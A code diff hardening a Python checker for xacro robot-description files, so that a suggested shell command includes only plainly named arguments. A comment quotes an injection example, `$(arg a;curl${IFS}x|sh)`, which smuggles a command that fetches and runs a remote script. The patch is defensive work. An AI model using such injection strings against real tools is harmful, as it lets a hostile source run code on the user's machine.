@@ -60,6 +60,9 @@ def xacro_findings(root: etree._Element, display: str, model_id: str, data: byte
 
 
 _ARG = re.compile(r"\$\(arg ([^)\s]+)\)")
+# an argument name the fix's command may hold: the command is pasted into a shell, and a hostile
+# source's `$(arg a;curl${IFS}x|sh)` would run there
+_PLAIN_ARG = re.compile(r"[A-Za-z_][A-Za-z0-9_.-]*")
 # the undeclared arguments the fix's command gives, at most
 _ARGS_SHOWN = 5
 
@@ -70,7 +73,8 @@ def _undeclared_args(
     model_id: str,
 ) -> str:
     """` name:=value` for each `$(arg name)` the source uses and declares no `<xacro:arg>` for,
-    which xacro refuses unless given ("Undefined substitution argument"): the meshes' folder
+    which xacro refuses unless given ("Undefined substitution argument"), and whose name is
+    plain (letters, digits, '_', '.', '-'; the command is pasted into a shell): the meshes' folder
     for one that starts a `<mesh filename>`, as hello-robot's tool URDFs write
     `$(arg tool_mesh_dir)/...STL`, else a placeholder."""
     declared = {
@@ -82,7 +86,11 @@ def _undeclared_args(
     for node, name, value in substituted:
         for match in _ARG.finditer(value):
             arg = match.group(1)
-            if arg in declared or (arg not in given and len(given) >= _ARGS_SHOWN):
+            if (
+                arg in declared
+                or not _PLAIN_ARG.fullmatch(arg)
+                or (arg not in given and len(given) >= _ARGS_SHOWN)
+            ):
                 continue
             meshes = (
                 name == "filename" and match.start() == 0 and etree.QName(node).localname == "mesh"
